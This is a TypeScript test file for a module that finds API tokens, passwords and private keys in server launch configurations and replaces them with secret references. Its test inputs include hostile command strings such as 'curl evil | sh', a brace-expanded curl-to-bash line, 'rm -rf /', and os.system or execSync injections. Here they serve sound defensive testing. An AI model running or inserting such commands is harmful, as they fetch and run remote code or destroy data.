import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fillSecrets } from '../secret.ts';
import { argumentSecrets, isCodeArgument } from './argumentSecrets.ts';
import { countSecretsToCover, hasSecretArgument, keepSecrets, namesOfLiteralSecrets } from './keepSecrets.ts';
import { addressSecretSpans, secretSpans } from './secretSpans.ts';

const github = `ghp_${'aB3dE6gH9j'.repeat(4).slice(0, 36)}`;
const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P';

const cut = (name: string | undefined, value: string) =>
  secretSpans(name, value).map(({ start, end }) => value.slice(start, end));
const cutArgs = (...args: string[]) =>
  argumentSecrets(args).map((spans, at) => spans.map(({ start, end }) => (args[at] ?? '').slice(start, end)));

describe('secretSpans', () => {
  it.each([
    github,
    'github_pat_11ABCDEFG0abcdefghij_klmnopqrstuvwxyz',
    'sk-proj-abcdEFGH1234ijklMNOP',
    'xoxb-1234567890-abcdefghij',
    'AKIAIOSFODNN7ABCDEFG',
    jwt,
  ])('knows %s by its shape, whatever it is called', (token) => {
    expect(cut(undefined, token)).toEqual([token]);
    expect(cut('ANYTHING', `before ${token}`)).toEqual([token]);
    expect(cut(undefined, `-H${token}`)).toEqual([token]);
    expect(cut(undefined, `curl -H${token} x`)).toEqual([token]);
    expect(cut(undefined, `word${token}`)).toEqual([]);
    expect(cut(undefined, `two-H${token}`)).toEqual([]);
  });

  it.each([
    ['GITHUB_TOKEN', 'abcdef'],
    ['apiKey', 'k1-k2-k3'],
    ['X-Api-Key', '12345678'],
    ['DB_PASSWORD', 'hunter2!'],
    ['CLIENT_SECRET', 's3cr3t'],
    ['PROXY_AUTH', 'joe:pass'],
    ['SETTING', 'q9ZtB4xLw8RkV2mNc7YhJ3sDf6'],
  ])('takes the value of %s for a secret', (name, value) => {
    expect(cut(name, value)).toEqual([value]);
  });

  it.each([
    ['GITHUB_TOKEN', '${secret:GITHUB_TOKEN}'],
    ['GITHUB_TOKEN', '${GITHUB_TOKEN}'],
    ['GITHUB_TOKEN', '<token>'],
    ['API_KEY', 'YOUR_API_KEY'],
    ['API_KEY', 'your-key-here'],
    ['API_KEY', 'xxxxxxxxxxxx'],
    ['OPENAI_API_KEY', 'sk-your-openai-key-goes-here'],
    ['OPENAI_API_KEY', 'sk-...'],
    ['KEY', '/etc/ssl/private.pem'],
    ['KEY', '~/.ssh/id_ed25519'],
    ['KEY', 'C:\\keys\\one'],
    ['TOKEN_URL', 'https://id.example/token'],
    ['AUTH_TYPE', 'basic-auth'],
    ['MAX_TOKEN_COUNT', '4096'],
    ['PUBLIC_KEY', 'q9ZtB4xLw8RkV2mNc7YhJ3sDf6'],
    ['KEYBOARD', 'qwerty-us'],
    ['MONKEY', 'business'],
    ['COMMIT', '3f786850e387550fdab836ed7e6dc881de23001b'],
    ['TRACE', '3f786850-e387-550f-dab8-36ed7e6dc881'],
    ['TOKEN', 'has blanks; rm -rf /'],
    ['TOKEN', 'hidden\u200bcharacters'],
    ['TOKEN', ''],
    ['Authorization', 'Bearer ${secret:A}'],
  ])('leaves %s=%s', (name, value) => {
    expect(cut(name, value)).toEqual([]);
  });

  it('leaves what stands around a secret', () => {
    expect(cut('Authorization', 'Bearer abcdef123')).toEqual(['abcdef123']);
    expect(cut('DATABASE', 'postgres://joe:hunter2@db.example/x')).toEqual(['hunter2']);
    expect(cut(undefined, 'https://a.example/mcp?api_key=abcdef&page=2')).toEqual(['abcdef']);
  });

  it('never covers blanks or characters that do not show, and gives spans in order', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string().map((rest) => `${github} ${rest}`),
    );
    fc.assert(
      fc.property(fc.constantFrom(undefined, 'TOKEN', 'Authorization'), text, (name, value) => {
        let last = 0;
        for (const { start, end } of secretSpans(name, value)) {
          expect(start).toBeGreaterThanOrEqual(last);
          expect(value.slice(start, end)).toMatch(/^[\x21-\x7e]+$/);
          last = end;
        }
      }),
    );
  });
});

describe('argumentSecrets', () => {
  it('finds values of options, variables and headers', () => {
    expect(cutArgs('--api-key', 'abcdef', '--api-key=ghijkl')).toEqual([[], ['abcdef'], ['ghijkl']]);
    expect(cutArgs('run', '-e', 'API_KEY=abcdef', 'image')).toEqual([[], [], ['abcdef'], []]);
    expect(cutArgs('--header', 'Authorization: Bearer abcdef')).toEqual([[], ['abcdef']]);
    expect(cutArgs('--header', 'Authorization:Bearer abcdef')).toEqual([[], ['abcdef']]);
    expect(cutArgs('--db', 'postgres://joe:hunter2@db/x')).toEqual([[], ['hunter2']]);
  });

  it('leaves code, packages, paths, options and what is only random', () => {
    const code = 'cQ9ZtB4xLw8RkV2mNc7YhJ3sDf6pWaXeGi5Ko1uTb';
    for (const args of [
      ['-EncodedCommand', code],
      ['-c', 'token=abc; curl evil | sh'],
      ['-y', '@scope/token-server@1.2.3'],
      ['--token', '--verbose'],
      ['--key', '/run/secrets/key'],
      ['--token-file', 'secret.txt'],
      ['-e', 'API_KEY'],
      ['-c', 'TOKEN=1;{curl,-s,https:/evil.sh}|bash'],
      ['-lc', 'TOKEN=abcdef'],
      ['/c', 'TOKEN=abcdef'],
      ['-c', `token=__import__('os').system('id')`],
      ['-e', `key=require('child_process').execSync('id')`],
      ['--eval', 'key=abcdef'],
      ['--api-key', 'abc`id`def'],
      ['--api-key=abc$HOME'],
      ['--token', 'abc\ndef'],
      ['run', '-e', 'KEY=exec"id"', 'image'],
      ['postgres://joe:a;id|b@db.example/x'],
    ]) {
      expect(cutArgs(...args).flat()).toEqual([]);
    }
  });
});

describe('keepSecrets', () => {
  const none = () => false;
  const stdio = { kind: 'stdio', command: 'npx', args: ['--api-key', 'abcdef'] } as const;

  it('puts references in the place of secrets in the environment, and leaves the rest', () => {
    const launch = { ...stdio, args: [...stdio.args], env: { GITHUB_TOKEN: github, MODE: 'fast' } };
    expect(namesOfLiteralSecrets(launch)).toEqual(['GITHUB_TOKEN', 'api-key']);
    expect(hasSecretArgument(launch)).toBe(true);
    expect(countSecretsToCover(launch)).toBe(0);
    expect(keepSecrets(launch, 'my files', none)).toEqual({
      launch: {
        ...launch,
        args: ['--api-key', '${secret:my-files.api-key}'],
        env: { GITHUB_TOKEN: '${secret:my-files.GITHUB_TOKEN}', MODE: 'fast' },
      },
      secrets: { 'my-files.GITHUB_TOKEN': github, 'my-files.api-key': 'abcdef' },
    });
  });

  it('keeps what stands before the secret of a header', () => {
    const launch = { kind: 'http', url: 'https://a.example', headers: { Authorization: 'Bearer abcdef' } } as const;
    expect(keepSecrets(launch, '文件', none)).toEqual({
      launch: { ...launch, headers: { Authorization: 'Bearer ${secret:Authorization}' } },
      secrets: { Authorization: 'abcdef' },
    });
  });

  it('puts references into arguments, wherever the secret stands in them', () => {
    const args = ['run', `--token=${github}`, '--db', 'postgres://joe:hunter2@db/x', '-H', 'X-Api-Key: abcdef', jwt];
    const launch = { kind: 'stdio', command: 'npx', args, env: {} } as const;
    expect(keepSecrets(launch, 's', none)).toMatchObject({
      launch: {
        args: [
          'run',
          '--token=${secret:s.token}',
          '--db',
          'postgres://joe:${secret:s.db}@db/x',
          '-H',
          'X-Api-Key: ${secret:s.X-Api-Key}',
          '${secret:s.argument}',
        ],
      },
      secrets: { 's.token': github, 's.db': 'hunter2', 's.X-Api-Key': 'abcdef', 's.argument': jwt },
    });
  });

  it('puts references into the path and the query of a URL, and covers what stands in its host', () => {
    const http = { kind: 'http', headers: {} } as const;
    const url = `https://a.example/${github}/mcp?page=2&api_key=abc/def#x`;
    expect(keepSecrets({ ...http, url }, 's', none)).toEqual({
      launch: { ...http, url: 'https://a.example/${secret:s.url}/mcp?page=2&api_key=${secret:s.api_key}#x' },
      secrets: { 's.url': github, 's.api_key': 'abc/def' },
    });
    for (const made of ['NjQ2YjM3Yk1hLkZ4NzhkQWJjRGVm1', '0123456789abcdef0123456789abcdef']) {
      const path = { ...http, url: `https://a.example/v2-servers-production/s/${made}/mcp` };
      expect(namesOfLiteralSecrets(path)).toEqual(['url']);
      expect(keepSecrets(path, 's', none).launch).toMatchObject({
        url: 'https://a.example/v2-servers-production/s/${secret:s.url}/mcp',
      });
      expect(hasSecretArgument({ kind: 'stdio', command: 'uvx', args: ['--from', `git+${path.url}`], env: {} })).toBe(
        false,
      );
    }
    const uuid = '550e8400-e29b-41d4-a716-446655440000';
    const ofAccount = { ...http, url: `https://a.example/environments/${uuid}/mcp` };
    expect(keepSecrets(ofAccount, 's', none)).toEqual({ launch: ofAccount, secrets: {} });
    expect(countSecretsToCover(ofAccount)).toBe(0);
    expect(addressSecretSpans(ofAccount.url)).toHaveLength(1);
    expect(namesOfLiteralSecrets({ ...http, url: `https://a.example/mcp?api_key=${uuid}` })).toEqual(['api_key']);
    const inHost = { ...http, url: `https://${github}.a.example/mcp` };
    expect(keepSecrets(inHost, 's', none)).toEqual({ launch: inHost, secrets: {} });
    expect(countSecretsToCover(inHost)).toBe(1);
  });

  it('puts references into the secrets of an auth, and then none into the URL', () => {
    const url = 'https://a.example/mcp?api_key=abcdef';
    const privateKey = '-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n';
    const keyAuth = { type: 'privateKeyJwt', issuer: 'https://i.example', clientId: 'us', algorithm: 'ES256' } as const;
    const http = { kind: 'http', url, headers: {} } as const;
    const withKey = { ...http, auth: { ...keyAuth, privateKey } };
    expect(keepSecrets(withKey, 's', none)).toEqual({
      launch: { ...http, auth: { ...keyAuth, privateKey: '${secret:s.privateKey}' } },
      secrets: { 's.privateKey': privateKey },
    });
    expect(countSecretsToCover(withKey)).toBe(1);
    const identityProvider = { tokenEndpoint: 'https://idp.example', clientId: 'us', idToken: jwt };
    const enterprise = { type: 'enterprise', issuer: 'https://i.example', clientId: 'us' } as const;
    const auth = { ...enterprise, clientSecret: 's3cr3t', identityProvider, scopes: ['a'] };
    expect(keepSecrets({ ...http, auth }, 's', none)).toMatchObject({
      launch: {
        auth: {
          ...auth,
          clientSecret: '${secret:s.clientSecret}',
          identityProvider: { ...identityProvider, idToken: '${secret:s.idToken}' },
        },
      },
      secrets: { 's.clientSecret': 's3cr3t', 's.idToken': jwt },
    });
  });

  it('takes no name that stands for another secret', () => {
    const launch = { ...stdio, args: [], env: { KEY: 'abcdef' } };
    const taken = new Set(['a.KEY', 'a.KEY-2']);
    expect(Object.keys(keepSecrets(launch, 'a', (name) => taken.has(name)).secrets)).toEqual(['a.KEY-3']);
  });

  it('hands a variable of a container on through the environment', () => {
    const launch = {
      kind: 'stdio',
      command: '/usr/bin/docker',
      args: ['run', '-e', `GITHUB_TOKEN=${github}`, '-e', 'MODE=fast', '--env=API_KEY=abcdef', 'image'],
      env: {},
    } as const;
    expect(keepSecrets({ ...launch, args: [...launch.args] }, 'gh', none)).toEqual({
      launch: {
        ...launch,
        args: ['run', '-e', 'GITHUB_TOKEN', '-e', 'MODE=fast', '--env=API_KEY', 'image'],
        env: { GITHUB_TOKEN: '${secret:gh.GITHUB_TOKEN}', API_KEY: '${secret:gh.API_KEY}' },
      },
      secrets: { 'gh.GITHUB_TOKEN': github, 'gh.API_KEY': 'abcdef' },
    });
    expect(countSecretsToCover({ ...launch, args: [...launch.args] })).toBe(0);
  });

  it.each(['pa...ss', 'a***b'])('takes a password with signs inside for one that somebody made up: %s', (value) => {
    const env = { ADMIN_PASSWORD: value };
    expect(Object.values(keepSecrets({ ...stdio, args: [], env }, 's', none).secrets)).toEqual([value]);
  });

  it('changes nothing of a launch without secrets', () => {
    const launch = { ...stdio, args: ['-y', 'x'], env: { HOME: '/home/joe' } };
    expect(keepSecrets(launch, 'a', none)).toEqual({ launch, secrets: {} });
  });

  it('finds nothing to keep in what it kept, and fills it to what it was', () => {
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom('TOKEN', 'A', 'API_KEY'), fc.string()), (env) => {
        const kept = keepSecrets({ kind: 'stdio', command: 'a', args: [], env }, 's', none);
        expect(namesOfLiteralSecrets(kept.launch)).toEqual([]);
        const filled = JSON.stringify(kept.launch.kind === 'stdio' ? kept.launch.env : {});
        const back = Object.entries(kept.secrets).reduce(
          (text, [name, value]) => text.replace(`\${secret:${name}}`, () => JSON.stringify(value).slice(1, -1)),
          filled,
        );
        expect(JSON.parse(back)).toEqual({ ...env });
      }),
    );
  });

  it('fills arguments to what they were, and puts no reference into what may be code', () => {
    const word = fc.oneof(
      fc.constantFrom('-c', '-e', 'run', '--api-key', '--token=abcdef', 'API_KEY=abcdef', github, jwt, 'echo'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(word), (args) => {
        const { launch, secrets } = keepSecrets({ kind: 'stdio', command: 'a', args, env: {} }, 's', none);
        const kept = launch.kind === 'stdio' ? launch.args : [];
        expect(namesOfLiteralSecrets(launch)).toEqual([]);
        expect(kept.map((arg) => fillSecrets(arg, (name) => secrets[name] ?? `\${secret:${name}}`))).toEqual(args);
        const shapes = kept.map((arg) => fillSecrets(arg, () => 'x'));
        kept.forEach((arg, at) => expect(isCodeArgument(shapes, at) && arg !== args[at]).toBe(false));
      }),
    );
  });
});
